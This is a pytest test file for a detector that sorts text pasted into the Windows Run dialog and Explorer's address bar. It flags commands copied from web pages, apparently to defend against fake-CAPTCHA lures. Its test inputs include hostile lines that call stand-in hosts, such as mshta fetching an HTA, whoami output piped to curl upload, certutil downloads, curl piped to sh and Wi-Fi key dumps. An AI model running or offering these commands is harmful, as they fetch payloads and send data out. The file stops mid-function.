"""The Run dialog and Explorer's address bar: a program, a path or an address, nothing more."""

from __future__ import annotations

import pytest

from app.detection import Context, Engine, Level, PasteTarget
from app.detection.runbox import (
    CatalogueError,
    Shape,
    enrolment_domains,
    opens_tenant_library,
    page_tools,
    parse_tools,
    run_box_shape,
    typed_tools,
    uses_own_tool,
)

RUN_BOXES = [PasteTarget.RUN_DIALOG, PasteTarget.EXPLORER_BAR]
PAGE = "https://docs.example.org/help"


@pytest.mark.parametrize(
    ("text", "shape"),
    [
        ("notepad", Shape.PROGRAM),
        ("appwiz.cpl", Shape.PROGRAM),
        ("  regedit  ", Shape.PROGRAM),
        (r"C:\Users\Public\Documents", Shape.PATH),
        (r"C:\Program Files\Widget Co\Widget", Shape.PATH),
        (r'"C:\Program Files\Widget Co\report.pdf"', Shape.PATH),
        (r"\\fileserver\shared\Quarterly", Shape.PATH),
        (r"%APPDATA%\Microsoft\Windows\Start Menu", Shape.PATH),
        ("shell:startup", Shape.URL),
        ("shell:common startup", Shape.URL),
        ("shell:::{20D04FE0-3AEA-1069-A2D8-08002B30309D}", Shape.URL),
        (r"Control Panel\All Control Panel Items", Shape.PATH),
        (r"This PC\Documents", Shape.PATH),
        ("explorer.exe shell:::{ED7BA470-8E54-465E-825C-99712043E01C}", Shape.PROGRAM),
        ("explorer shell:common startup", Shape.COMMAND),
        (r"explorer \\files.example.test\pub", Shape.COMMAND),
        ("explorer.exe shell:::{ED7BA470-8E54-465E-825C-99712043E01C} calc", Shape.COMMAND),
        ("perfmon /rel", Shape.PROGRAM),
        ("perfmon /rel /sys", Shape.COMMAND),
        (r"perfmon /report C:\x.xml", Shape.COMMAND),
        ("shell:startup & calc", Shape.COMMAND),
        # Explorer's bar and the Run box open it from the profile: it runs (typed only)
        (r"Desktop\x.exe", Shape.RUN_FILE),
        (r"shell:Downloads\Verify.exe", Shape.RUN_FILE),
        ("file:///C:/Users/Public/fix.hta", Shape.RUN_FILE),
        ("file:///C:/Program%20Files/Widget%20Co/widget.exe", Shape.URL),
        ("https://files.example.test/setup.exe", Shape.URL),
        # a program or script file outside the folders programs are installed in: typed only
        (r"%TEMP%\upd.exe", Shape.RUN_FILE),
        (r'"%USERPROFILE%\Downloads\Meeting Fix.msi"', Shape.RUN_FILE),
        (r"C:\Users\Public\fix.hta", Shape.RUN_FILE),
        (r"C:\Windows\Temp\patch.bat", Shape.RUN_FILE),
        (r".\setup.bat", Shape.RUN_FILE),
        (r"C:\Program Files\Widget Co\widget.exe", Shape.PATH),
        (r"%ProgramFiles(x86)%\Widget Co\widget.exe", Shape.PATH),
        (r"%windir%\system32\devmgmt.msc", Shape.PATH),
        (r"\\fileserver\apps\setup.exe", Shape.PATH),
        (r"C:\Users\Public\report.pdf", Shape.PATH),
        (r"Desktop\Quarterly", Shape.PATH),
        (r"Control Panel\..\..\Windows\System32\cmd.exe /c calc", Shape.COMMAND),
        ("Quarterly report 2024.pdf", Shape.PATH),
        ("https://intranet.example.org/help", Shape.URL),
        ("ms-settings:display", Shape.URL),
        ("cmd /c whoami", Shape.COMMAND),
        ("notepad C:\\notes.txt && calc", Shape.COMMAND),
        ("powershell -w h -c calc", Shape.COMMAND),
        ("mshta https://evil.test/x.hta", Shape.COMMAND),
        # a web address with a space in a folder's name, copied as shown: the browser opens it
        ("https://acme.sharepoint.com/sites/IT/Shared Documents", Shape.URL),
        ("https://acme.sharepoint.com/sites/HR/Shared Documents/Leave Policy 2025.pdf", Shape.URL),
        # ...but not with a program's name, a program file or a fake check's words after it
        ("https://evil.test/x mshta", Shape.COMMAND),
        ("https://files.example.test/tools/Setup Tool.exe", Shape.COMMAND),
        ("https://files.example.test/a.pdf run now", Shape.COMMAND),
        ("https://microsoft.com/devicelogin FJ6CMNQ8R", Shape.COMMAND),
        ("https://microsoft.com/devicelogin: code", Shape.COMMAND),
        ("https://evil.test/verify ✅ I am not a robot", Shape.COMMAND),
        # one web address whose query joins its fields with & or ;: no shell reads them
        ("https://www.youtube.com/watch?v=Xk2Lp9mN4vR&list=PL8f3a1c&index=3", Shape.URL),
        (
            "https://eur02.safelinks.protection.outlook.com/?url=https%3A%2F%2Fa.example&data=05",
            Shape.URL,
        ),
        ("https://x.test/a?b=1&c=2 calc", Shape.COMMAND),
        ("https://x.test/a?b=1|calc", Shape.COMMAND),
        ("https://x.test/a?b=$(calc)", Shape.COMMAND),
        ("https://x.test/a?b=1\ncalc", Shape.COMMAND),
        ("https://evil.test/a.pdf Verification ID 4821.txt", Shape.COMMAND),
        ("explorer.exe https://evil.test", Shape.COMMAND),
        ("notepad\ncalc", Shape.COMMAND),
        (r"cmd                                        C:\Users\x\report.pdf", Shape.COMMAND),
        # an editor given one file here: typed, it is taken like a program name (engine)
        ("notepad C:\\Users\\me\\notes.txt", Shape.PROGRAM),
        ("notepad /p C:\\Users\\me\\notes.txt", Shape.COMMAND),
        ("mspaint https://evil.test/x.png", Shape.COMMAND),
        ("Meeting moved to 3pm", Shape.TEXT),
        ("git status", Shape.TEXT),
        ("Note: the printer is on floor 2", Shape.TEXT),
        ("", Shape.EMPTY),
    ],
)
def test_run_box_shape(text: str, shape: Shape) -> None:
    assert run_box_shape(text) is shape


@pytest.mark.parametrize("target", RUN_BOXES)
@pytest.mark.parametrize(
    "text",
    [
        "notepad",
        r"C:\Users\Public\Documents",
        "https://intranet.example.org/help",
        "Meeting moved to 3pm",
    ],
)
def test_a_program_path_or_address_in_a_run_box_is_not_flagged(
    engine: Engine, target: PasteTarget, text: str
) -> None:
    for source in (None, PAGE):
        verdict = engine.analyze(text, Context(source=source, target=target))
        assert verdict.level <= Level.INFO, (text, source, verdict.rule_ids)


@pytest.mark.parametrize("target", RUN_BOXES)
@pytest.mark.parametrize("text", ["cmd /c whoami", "ipconfig /all", r"notepad /p C:\notes\a.txt"])
def test_anything_more_in_a_run_box_is_suspicious_and_from_a_page_malicious(
    engine: Engine, target: PasteTarget, text: str
) -> None:
    assert engine.analyze(text).level <= Level.INFO  # harmless on its own
    alone = engine.analyze(text, Context(target=target))
    assert alone.level is Level.SUSPICIOUS, alone.rule_ids
    assert "PG-CONTEXT-RUN-BOX" in alone.rule_ids
    from_page = engine.analyze(text, Context(source=PAGE, target=target))
    assert from_page.level is Level.MALICIOUS, from_page.rule_ids
    from_chat = engine.analyze(text, Context(source="Slack", target=target))
    assert from_chat.level is Level.SUSPICIOUS, from_chat.rule_ids
    assert "docs[.]example[.]org" in from_page.summary


def test_a_url_with_a_fake_verification_tail_in_the_run_box_is_malicious(engine: Engine) -> None:
    text = "https://files.example.net/invoice.pdf   # I am not a robot - reCAPTCHA Verification ID: 7731"
    verdict = engine.analyze(text, Context(source=PAGE, target=PasteTarget.RUN_DIALOG))
    assert verdict.level is Level.MALICIOUS, verdict.rule_ids
    assert engine.analyze(text, Context(target=PasteTarget.RUN_DIALOG)).flagged


@pytest.mark.parametrize("target", RUN_BOXES)
@pytest.mark.parametrize(
    "text",
    [
        "control printers",
        "control /name Microsoft.DeviceManager",
        "control /name Microsoft.System /page pageAdvancedSettings",
        "control sysdm.cpl,,3",
        "mmc devmgmt.msc",
        "ms-settings:windowsupdate",
    ],
)
def test_a_windows_settings_page_by_its_own_name_is_not_flagged_even_from_a_page(
    engine: Engine, target: PasteTarget, text: str
) -> None:
    assert run_box_shape(text) is not Shape.COMMAND
    verdict = engine.analyze(text, Context(source=PAGE, target=target))
    assert verdict.level <= Level.INFO, (text, verdict.rule_ids)


@pytest.mark.parametrize(
    "text",
    [
        r"control \\files.example.test@SSL\DavWWWRoot\x.cpl",
        r"control C:\Users\Public\Downloads\x.cpl",
        r"control %TEMP%\sysdm.cpl",
        "control https://files.example.test/x.cpl",
        "control unknown.cpl",
        "control printers extra",
        "control printers & calc",
        r"mmc \\files.example.test\pub\x.msc",
        "mmc grim.msc",
    ],
)
def test_a_settings_word_with_a_path_share_address_or_more_is_a_command(
    engine: Engine, text: str
) -> None:
    assert run_box_shape(text) is Shape.COMMAND
    verdict = engine.analyze(text, Context(source=PAGE, target=PasteTarget.RUN_DIALOG))
    assert verdict.level is Level.MALICIOUS, verdict.rule_ids


@pytest.mark.parametrize(
    ("text", "shape"),
    [
        ("mstsc /v:term01.corp.example", Shape.CONNECT),
        ("mstsc.exe /v:10.0.0.5:3389 /admin /f", Shape.PROGRAM),
        ("mstsc /v:jump-host /w:1280 /h:800 /multimon", Shape.PROGRAM),
        # a file, an address, a second computer, another switch or a chain: a command
        (r"mstsc \\host\share\x.rdp", Shape.COMMAND),
        ("mstsc /edit corp.rdp", Shape.COMMAND),
        ("mstsc /v:https://x.test/a", Shape.COMMAND),
        ("mstsc /v:a.example /v:b.example", Shape.COMMAND),
        ("mstsc /shadow:2 /v:host /control /noconsentprompt", Shape.COMMAND),
        ("mstsc /v:host & calc", Shape.COMMAND),
        # Remote Assistance on the helper's side; the switches that invite someone in are commands
        ("msra /offerra", Shape.TOOL),
        ("msra.exe /offerRA ws-0142", Shape.TOOL),
        ("msra /expert", Shape.TOOL),
        ("msra /novice", Shape.COMMAND),
        ("msra /offerra /novice", Shape.COMMAND),
        ("msra /saveasfile C:\\x\\a.msrcincident pw", Shape.COMMAND),
        # Windows' own maintenance commands: refreshed from this computer's own sources
        ("cmd /c gpupdate /force", Shape.REFRESH),
        ("cmd /k w32tm /resync /force", Shape.REFRESH),
        ("ipconfig /flushdns", Shape.REFRESH),
        ("cmd /c gpupdate /logoff", Shape.COMMAND),
        ("cmd /c w32tm /resync /computer:dc01", Shape.COMMAND),
        ("cmd /c gpupdate /force & calc", Shape.COMMAND),
    ],
)
def test_remote_desktop_to_a_named_computer(text: str, shape: Shape) -> None:
    assert run_box_shape(text) is shape


@pytest.mark.parametrize("target", RUN_BOXES)
def test_remote_desktop_typed_is_an_admins_but_from_a_web_page_a_command(
    engine: Engine, target: PasteTarget
) -> None:
    text = "mstsc /v:term01.corp.example /admin"
    typed = engine.analyze(text, Context(target=target))
    assert typed.level <= Level.INFO, typed.rule_ids
    from_page = engine.analyze(text, Context(source=PAGE, target=target))
    assert from_page.level is Level.MALICIOUS, from_page.rule_ids


@pytest.mark.parametrize(
    ("text", "shape"),
    [
        # a Windows page by a library's bare name and an entry point that takes nothing
        ("rundll32.exe sysdm.cpl,EditEnvironmentVariables", Shape.PROGRAM),
        ("rundll32 shell32.dll,Control_RunDLL desk.cpl", Shape.PROGRAM),
        ("rundll32 shell32.dll,ShellExec_RunDLL cmd /c whoami", Shape.COMMAND),
        ("rundll32 url.dll,FileProtocolHandler https://x.test/a.hta", Shape.COMMAND),
        (r"rundll32 C:\Users\Public\sysdm.cpl,EditEnvironmentVariables", Shape.COMMAND),
        # a shell dialog on the page its one argument names: a number or a keyword, nothing else
        ("rundll32.exe shell32.dll,Options_RunDLL 7", Shape.PROGRAM),
        ("rundll32 shell32.dll,SHHelpShortcuts_RunDLL PrintersFolder", Shape.PROGRAM),
        ("rundll32 shell32.dll,Options_RunDLL", Shape.COMMAND),
        ("rundll32 shell32.dll,Options_RunDLL 7 8", Shape.COMMAND),
        (r"rundll32 shell32.dll,Options_RunDLL \\host\x\a.dll", Shape.COMMAND),
        (r"rundll32 C:\Users\Public\shell32.dll,Options_RunDLL 7", Shape.COMMAND),
        ("rundll32 url.dll,Options_RunDLL 7", Shape.COMMAND),
        ("rundll32 shell32.dll,SHHelpShortcuts_RunDLL Connect", Shape.COMMAND),
        # an editor given one file here, Windows Terminal one of its profiles
        (r"notepad %USERPROFILE%\.npmrc", Shape.PROGRAM),
        (r'mspaint "C:\Users\Dana\Pictures\Screenshot 1.png"', Shape.PROGRAM),
        ("wt -p Debian", Shape.OPEN),
        ('wt -w 0 -p "Windows PowerShell" --maximized', Shape.OPEN),
        (r"notepad \\host\share\a.txt", Shape.COMMAND),
        (r"notepad C:\a.txt C:\b.txt", Shape.COMMAND),
        ("wt -p Debian bash -c id", Shape.COMMAND),
        ("wt -p", Shape.COMMAND),
        # Windows' own program by its path in the system folder is the program of that name; a
        # copy elsewhere given words runs as a file, and a script host by its path is a command
        (r"%windir%\system32\control.exe /name Microsoft.Troubleshooting", Shape.PROGRAM),
        (r"C:\Windows\SysWOW64\control.exe printers", Shape.PROGRAM),
        (r"%SystemRoot%\System32\rundll32.exe sysdm.cpl,EditEnvironmentVariables", Shape.PROGRAM),
        (r"%windir%\system32\..\..\Users\Public\control.exe printers", Shape.RUN_FILE),
        (r"C:\Windows\Temp\control.exe /name Microsoft.Troubleshooting", Shape.COMMAND),
        (r"C:\Users\Public\control.exe printers", Shape.RUN_FILE),
        (r"%windir%\system32\rundll32.exe C:\Users\Public\x.dll,Start", Shape.COMMAND),
        (r"%windir%\system32\mshta.exe https://evil.test/x.hta", Shape.COMMAND),
        # ping and tracert with one computer and their counting switches: a network check
        ("ping -t 192.0.2.1", Shape.PROGRAM),
        ("tracert -d -h 15 fs01.corp.example", Shape.PROGRAM),
        ("ping -t 192.0.2.1 -t", Shape.COMMAND),
        (r"ping -t \\192.0.2.1\s", Shape.COMMAND),
        ("ping -n 1 192.0.2.1 & calc", Shape.COMMAND),
        # a shell folder, and a folder inside it named without dots
        (r"shell:Local AppData\Microsoft\WindowsApps", Shape.URL),
        (r"shell:Local AppData\..\..\Windows", Shape.COMMAND),
    ],
)
def test_windows_own_pages_editors_and_folders(text: str, shape: Shape) -> None:
    assert run_box_shape(text) is shape


@pytest.mark.parametrize("target", RUN_BOXES)
def test_an_editor_given_a_file_typed_is_a_users_but_from_a_web_page_a_command(
    engine: Engine, target: PasteTarget
) -> None:
    for text in (r"code C:\src\website", "wt -p Debian", r"notepad++ %USERPROFILE%\.npmrc"):
        typed = engine.analyze(text, Context(target=target))
        assert typed.level <= Level.INFO, typed.rule_ids
        from_page = engine.analyze(text, Context(source=PAGE, target=target))
        assert from_page.level is Level.MALICIOUS, from_page.rule_ids


@pytest.mark.parametrize(
    ("text", "shape"),
    [
        # Windows' own tools with the switches of resources/runbox.yaml
        (r"compmgmt.msc /computer=\\ws-0412", Shape.PROGRAM),
        ("mmc services.msc /computer=fs02 /s", Shape.PROGRAM),
        (r'dxdiag /t "%USERPROFILE%\Desktop\dx diag.txt"', Shape.PROGRAM),
        (r"explorer.exe /select,%USERPROFILE%\Downloads", Shape.PROGRAM),
        ("cleanmgr /sageset:1", Shape.PROGRAM),  # runbox.yaml `pages`: only opens its list
        ("mmc dsa.msc /domain=corp.example", Shape.TOOL),
        ("dssite.msc /server=dc01.corp.example", Shape.TOOL),
        # Disk Cleanup running the list the user saved; Office opening a document without
        # macros here or on a share of a computer named by one word; Media Player's shortcut
        ("cleanmgr /d D: /sagerun:7", Shape.TOOL),
        (r"excel /r \\fileserver01\Finance\Budget.xlsx", Shape.PROGRAM),
        (r'excel "\\fs-02\Shared Docs\plan.xlsx"', Shape.PROGRAM),
        (r"winword \\nas.local\team\memo.docx", Shape.PROGRAM),
        (r"winword C:\Users\sam\letter.docx", Shape.PROGRAM),
        ("wmplayer /prefetch:1", Shape.TOOL),
        (r"powerpnt /s \\fileserver01\Sales\pitch.pptx", Shape.PROGRAM),
        ("outlook /safe /nopreview", Shape.PROGRAM),  # `pages`: a start-up mode, nothing loaded
        ("outlook.exe /safe /profile Contoso", Shape.PROGRAM),
        (r"outlook /profile Contoso /altvba C:\Users\Public\x.otm", Shape.COMMAND),
        (r"mmc dsa.msc /domain=\\files.example.test\x", Shape.COMMAND),
        ("dsa.msc /domain=corp.example /domain=x.example", Shape.COMMAND),
        ("chrome --incognito", Shape.PROGRAM),
        # a share, an address, a console from elsewhere, a switch that does more, a script host
        (r"dxdiag /t \\files.example.test\drop\dx.txt", Shape.COMMAND),
        (r"dxdiag /t %LOGONSERVER%\dx.txt", Shape.COMMAND),
        (r"mmc \\files.example.test\share\compmgmt.msc", Shape.COMMAND),
        ("tools.msc /computer=fs02", Shape.COMMAND),
        (r"compmgmt.msc /computer=\\host@SSL\DavWWWRoot", Shape.COMMAND),
        ("cleanmgr /verylowdisk", Shape.COMMAND),
        (r"excel /r \\fileserver01\Finance\Budget.xlsm", Shape.COMMAND),
        (r"excel /r \\files.example.test\Finance\Budget.xlsx", Shape.COMMAND),
        (r"excel /r \\3405803781\Finance\Budget.xlsx", Shape.COMMAND),
        (r"excel /r \\fs01@SSL\DavWWWRoot\Budget.xlsx", Shape.COMMAND),
        ("excel /r https://files.example.test/Budget.xlsx", Shape.COMMAND),
        (r"winword \\fileserver01\x\a.docx /safe /safe", Shape.COMMAND),
        ("wmplayer https://media.example.test/a.asx", Shape.COMMAND),
        (r"outlook /altvba C:\Users\Public\VbaProject.otm", Shape.COMMAND),
        ("chrome --incognito --remote-debugging-port=9222", Shape.COMMAND),
        # a web page in a private window, typed, as the address alone opens it; never a file:
        # address, a window without an address bar or a profile by a path
        ("chrome --incognito https://status.example.test/", Shape.PROGRAM),
        ("chrome --incognito https://verify.example.test/", Shape.COMMAND),
        (r"chrome --incognito file://files.example.test/x/fix.hta", Shape.COMMAND),
        ("msedge --app=https://verify.example.test/", Shape.COMMAND),
        (r'chrome --profile-directory="..\Public\p"', Shape.COMMAND),
        (r"explorer /select,C:\a.txt,/root,\\host\x", Shape.COMMAND),
        (r'explorer /select,"C:\a.txt', Shape.COMMAND),
        ("mshta /s", Shape.COMMAND),
    ],
)
def test_windows_own_tools_with_their_switches(text: str, shape: Shape) -> None:
    assert run_box_shape(text) is shape


@pytest.mark.parametrize(
    "names", [["mshta"], ["PowerShell.exe"], ["rundll32"], ["explorer"], ["cmd"]]
)
def test_the_tool_catalogue_refuses_programs_that_run_what_they_are_given(
    names: list[str],
) -> None:
    switch = "/e,{folder}" if names == ["explorer"] else "/s"
    document = {"tools": [{"__line__": 3, "names": names, "what": "x", "switches": [switch]}]}
    with pytest.raises(CatalogueError, match="runs what it is given"):
        parse_tools(document)


def test_the_tool_catalogue_reads_a_value_alone_and_refuses_an_unknown_kind() -> None:
    entry = {"__line__": 3, "names": ["excel"], "what": "x", "switches": ["{document}"]}
    tools = parse_tools({"tools": [entry]})
    assert [(s.head, s.value) for s in tools["excel"]] == [("", "document")]
    entry["switches"] = ["{script}"]
    with pytest.raises(CatalogueError, match="cannot read switch"):
        parse_tools({"tools": [entry]})


def test_the_shipped_tool_catalogue_reads_and_each_tool_is_typed_only(engine: Engine) -> None:
    tools = typed_tools()
    assert {"console", "dxdiag", "explorer"} <= set(tools), tools
    # (a report to a text file here and a console on a computer of the local network are what
    # a path or a program name opens: runbox.yaml `opens`, taken from any page)
    for text in (
        "cleanmgr /sagerun:1",
        "fsmgmt.msc /computer=fs02.corp.example",
        "shutdown /r /t 0",
    ):
        typed = engine.analyze(text, Context(target=PasteTarget.RUN_DIALOG))
        assert typed.level <= Level.INFO, typed.rule_ids
        from_page = engine.analyze(text, Context(source=PAGE, target=PasteTarget.RUN_DIALOG))
        assert from_page.level is Level.MALICIOUS, from_page.rule_ids


def test_a_tools_switch_that_only_picks_its_page_is_a_program_name_whoever_wrote_it(
    engine: Engine,
) -> None:
    """runbox.yaml `pages`: eventvwr.msc alone is a program name from any page, and so is it
    opening its System log; a file, a share or a computer as a value stays typed-only or a
    command."""
    assert {"eventvwr", "printui", "taskmgr", "sndvol"} <= set(page_tools())
    for text in ("eventvwr.msc /c:System", "printui.exe /s /t2", "taskmgr /3", "sndvol -m"):
        assert run_box_shape(text) is Shape.PROGRAM, text
        from_page = engine.analyze(text, Context(source=PAGE, target=PasteTarget.RUN_DIALOG))
        assert from_page.level is Level.CLEAN, (text, from_page.rule_ids)
    for text in (r"eventvwr /l:C:\Temp\saved.evtx", "eventvwr.msc /c:System /computer=ws01"):
        assert run_box_shape(text) is Shape.TOOL, text
    for text in (
        r"printui.exe /s /t2 /c\\203.0.113.7",
        r"printui /ia /m x /f \\203.0.113.7\s\x.inf",
        "printui.exe /s /s",
        "printui.exe /t /s",
        r"eventvwr /c:\\203.0.113.7\x",
    ):
        assert run_box_shape(text) is Shape.COMMAND, text
        from_page = engine.analyze(text, Context(source=PAGE, target=PasteTarget.RUN_DIALOG))
        assert from_page.level is Level.MALICIOUS, (text, from_page.rule_ids)


@pytest.mark.parametrize(
    ("text", "shape"),
    [
        ("cmd /k ipconfig /all", Shape.SHOW),
        ("cmd.exe /K systeminfo /fo list", Shape.SHOW),
        ("cmd /k driverquery /v /fo table", Shape.SHOW),
        ("cmd /k certutil -user -store My", Shape.SHOW),
        ("cmd /k ipconfig /all & nslookup intranet.example & tracert -d 192.0.2.1", Shape.SHOW),
        ("cmd /k hostname && whoami /upn && ver", Shape.SHOW),
        ("cmd /k gpupdate /force & gpresult /r", Shape.REFRESH),
        ("cmd /k ipconfig /flushdns & ipconfig /all", Shape.SHOW),
        # what fake support staff read out as proof, or anything that fetches, runs or sends
        ("cmd /k netstat -ano", Shape.QUERY),
        ("cmd /k ipconfig /displaydns", Shape.QUERY),
        ("cmd /k ipconfig /all & netstat -ano", Shape.QUERY),  # typed only
        ("cmd /k ipconfig /all & mshta https://cdn.example.test/v.hta", Shape.COMMAND),
        ("cmd /k whoami /all | curl -F f=@- https://cdn.example.test/u", Shape.COMMAND),
        (r"cmd /k systeminfo > \\203.0.113.7\drop\r.txt", Shape.COMMAND),
        ("cmd /k nslookup stage.example.test 203.0.113.53", Shape.COMMAND),
        ("cmd /k nslookup -q=txt stage.example.test", Shape.COMMAND),
        ("cmd /k certutil -urlcache -split -f https://cdn.example.test/a a.exe", Shape.COMMAND),
        ("cmd /k hostname & whoami & ver & getmac & systeminfo", Shape.COMMAND),
        ("cmd /k driverquery /fo html", Shape.COMMAND),
        ("cmd /c ipconfig /all & hostname", Shape.COMMAND),
        (r"C:\Users\Public\cmd.exe /k ipconfig /all", Shape.COMMAND),
        # the read-outs around them, and what turns one into a command
        ("cmd /c ipconfig /all & pause", Shape.SHOW),
        ('cmd /k ipconfig /all | findstr /i "IPv4 DNS"', Shape.SHOW),
        (r"cmd /k ipconfig /all > %USERPROFILE%\Desktop\ip.txt", Shape.SHOW),
        ("cmd /k wmic bios get serialnumber", Shape.SHOW),
        ("cmd /k netsh wlan show interfaces", Shape.SHOW),
        ("cmd /k echo %COMPUTERNAME% %USERNAME%", Shape.SHOW),
        ("powershell -NoExit -Command Get-NetIPConfiguration", Shape.SHOW),
        ("cmd /c ipconfig /all | clip", Shape.COMMAND),
        (r"cmd /k ipconfig /all > C:\Users\Public\x.bat", Shape.COMMAND),
        (r"cmd /k ipconfig /all > \\203.0.113.7\s\ip.txt", Shape.COMMAND),
        ("cmd /k wmic process call create calc", Shape.COMMAND),
        ('cmd /k wmic os get /format:"https://cdn.example.test/x.xsl"', Shape.COMMAND),
        ("cmd /k netsh wlan show profile name=Home key=clear", Shape.COMMAND),
        ("cmd /c nslookup stage.example.test | findstr Name & pause", Shape.COMMAND),
        ("cmd /c whoami", Shape.COMMAND),
        ("cmd /k dir /s C:\\", Shape.COMMAND),
        ("powershell -NoExit -Command Get-Credential", Shape.QUERY),
        ("powershell -w h -Command Get-NetAdapter", Shape.COMMAND),
    ],
)
def test_a_console_that_only_shows_this_computer(text: str, shape: Shape) -> None:
    assert run_box_shape(text) is shape


def test_a_console_that_only_shows_this_computer_is_quiet_from_a_page_and_the_rest_blocked(
    engine: Engine,
) -> None:
    """IT wikis have people press Win+R and read out `cmd /k ipconfig /all`: from a page it is
    no block (runbox.Shape.SHOW); a query that fake support staff read out as proof, or the same
    console running anything else, stays one."""
    for text in ("cmd /k ipconfig /all", "cleanmgr /sageset:1", "outlook.exe /safe /profile Ops"):
        from_page = engine.analyze(text, Context(source=PAGE, target=PasteTarget.RUN_DIALOG))
        assert from_page.level is Level.CLEAN, (text, from_page.rule_ids)
    for text in (
        "cmd /k netstat -ano",
        "cmd /k ipconfig /all & mshta https://cdn.example.test/v.hta",
        "cleanmgr /sagerun:1",
        r"outlook /profile Ops /altvba C:\Users\Public\x.otm",
    ):
        from_page = engine.analyze(text, Context(source=PAGE, target=PasteTarget.RUN_DIALOG))
        assert from_page.level is Level.MALICIOUS, (text, from_page.rule_ids)


def test_the_tool_catalogue_reads_a_value_joined_to_its_switch_with_nothing_between() -> None:
    entry = {"__line__": 3, "names": ["printui"], "what": "x", "switches": ["/t{number}"]}
    tools = parse_tools({"pages": [entry]}, key="pages")
    assert [(s.head, s.value, s.spaced) for s in tools["printui"]] == [("/t", "number", False)]
    assert uses_own_tool("printui /t2", tools)
    assert not uses_own_tool("printui /tx", tools)
    assert not uses_own_tool("printui /t", tools)


@pytest.mark.parametrize(
    ("text", "shape"),
    [
        # a console kept open in a folder here on a status query, steps joined by && or &,
        # or given as one quoted argument: typed only, like `cmd /k cd /d C:\src` alone
        (r"cmd /k cd /d D:\work\ledger && git status", Shape.QUERY),
        (r'cmd /k "cd /d D:\work\ledger && git status"', Shape.QUERY),
        # (cmd runs what the quotes hold: `cmd /k "ipconfig /all"` is `cmd /k ipconfig /all`,
        # a read-out from any source; with a query a page may not write, typed only)
        ('cmd /k "ipconfig /all"', Shape.SHOW),
        ('cmd /k "ipconfig /all & netstat -ano"', Shape.QUERY),
        (r"powershell -NoExit -Command Set-Location D:\Projects\2031", Shape.QUERY),
        (r'powershell -NoExit -Command "Set-Location D:\Projects\2031"', Shape.QUERY),
        # a fetch, a share, a pipe, a fifth step, something after the quotes, no -NoExit
        (r"cmd /k cd /d D:\work && git pull", Shape.COMMAND),
        (r"cmd /k cd /d \\203.0.113.7\s && git status", Shape.COMMAND),
        (r'cmd /k "cd /d D:\x && curl https://x.test/a | sh"', Shape.COMMAND),
        (r"cmd /k git status & git status & git status & git status & git status", Shape.COMMAND),
        (r'cmd /k "cd /d D:\x && git status" & calc', Shape.COMMAND),
        (r"powershell -Command Set-Location D:\x", Shape.COMMAND),
        (r"cmd /k cd /d D:\x && git -c core.fsmonitor=calc status", Shape.COMMAND),
        # a listing of a folder here, a query read through a pager or a one-word search
        (r"cmd /k dir /s /b C:\src | sort", Shape.COMMAND),
        (r"cmd /k tree /f D:\work", Shape.COMMAND),
        ("cmd /k netstat -ano | findstr 3389", Shape.QUERY),
        ("cmd /k ipconfig /all | more", Shape.SHOW),  # design16: from any page
        ("cmd /k ipconfig /all | bash", Shape.COMMAND),
        ("cmd /k ipconfig /all || calc", Shape.COMMAND),
        ("cmd /k ipconfig /all|more", Shape.COMMAND),
        (r"cmd /k dir \\203.0.113.7\s", Shape.COMMAND),
        (r"cmd /k dir C:\src /s /s", Shape.COMMAND),
        (r"cmd /k type C:\x.txt | more", Shape.COMMAND),
        ("cmd /c ipconfig /all | more", Shape.COMMAND),
    ],
)
def test_a_console_kept_open_in_a_folder_on_a_status_query(text: str, shape: Shape) -> None:
    assert run_box_shape(text) is shape


@pytest.mark.parametrize(
    ("text", "shape"),
    [
        # typed read-outs of this computer's or its domain's state (BLIND-17's kind, own texts)
        ("cmd /k klist", Shape.QUERY),
        ('cmd /k "klist tgt"', Shape.QUERY),
        ('cmd /k "net use"', Shape.QUERY),
        ("cmd /k nltest /dsgetdc:ad.contoso.example", Shape.QUERY),
        ('cmd /k "wmic bios get serialnumber"', Shape.SHOW),
        ('powershell -NoExit -Command "Test-ComputerSecureChannel -Verbose"', Shape.QUERY),
        ("pwsh -NoExit -c Get-NetAdapter -Verbose", Shape.QUERY),
        ("control /name Microsoft.Mouse /page 1", Shape.PROGRAM),
        ("dhcpmgmt.msc /ComputerName dhcp01", Shape.PROGRAM),
        ("taskschd.msc /s srv-batch01", Shape.PROGRAM),
        ("taskschd.msc /s", Shape.PROGRAM),
        (r"mstsc /edit C:\Users\Public\Desktop\erp.rdp", Shape.TOOL),
        # what changes, connects, reaches a share or runs stays a command
        ('cmd /k "klist purge"', Shape.COMMAND),
        (r'cmd /k "net use Z: \\fs01\x"', Shape.COMMAND),
        ("cmd /k nltest /dsgetdc:corp.example /server:198.51.100.7", Shape.COMMAND),
        (r"cmd /k nltest /dsgetdc:\\x.example\s", Shape.COMMAND),
        ('powershell -NoExit -Command "Test-ComputerSecureChannel -Repair"', Shape.COMMAND),
        ("powershell -NoExit -Command Test-ComputerSecureChannel -Verbose -Verbose", Shape.COMMAND),
        ("control /name Microsoft.Mouse /page 123", Shape.COMMAND),
        (r"dhcpmgmt.msc /ComputerName \\fs01\share", Shape.COMMAND),
        (r"mstsc /edit C:\Users\Public\Downloads\support.rdp", Shape.COMMAND),
        (r"mstsc /edit %TEMP%\a.rdp", Shape.COMMAND),
        (r"mstsc /edit C:\x\a.exe", Shape.COMMAND),
        (r"mstsc /edit \\fs01.corp.example\it\a.rdp", Shape.COMMAND),
    ],
)
def test_typed_read_outs_and_consoles_aimed_at_a_computer(text: str, shape: Shape) -> None:
    assert run_box_shape(text) is shape


@pytest.mark.parametrize(
    ("text", "library"),
    [
        (r"\\contoso.sharepoint.com@SSL\DavWWWRoot\sites\HR\Shared Documents", True),
        ("\\\\contoso.sharepoint.com@SSL@443\\DavWWWRoot\\teams\\Ops\\Docs\\", True),
        (r"\\contoso-my.sharepoint.com@SSL\personal\kim_contoso_com\Documents", True),
        # a file in it, another host, no site, a program given it, a port of its own
        (r"\\contoso.sharepoint.com@SSL\DavWWWRoot\sites\HR\Shared Documents\a.lnk", False),
        (r"\\contoso.sharepoint.com.stage.test@SSL\DavWWWRoot\sites\HR", False),
        (r"\\sharepoint.stage.test@SSL\DavWWWRoot\sites\HR", False),
        (r"\\contoso.sharepoint.com@SSL\DavWWWRoot\HR", False),
        (r"explorer \\contoso.sharepoint.com@SSL\DavWWWRoot\sites\HR", False),
        (r"\\contoso.sharepoint.com@SSL@8080\DavWWWRoot\sites\HR", False),
        ("\\\\contoso.sharepoint.com@SSL\\sites\\HR\\" + "x" * 5000, False),
    ],
)
def test_a_tenant_library_by_its_webdav_address(text: str, library: bool) -> None:
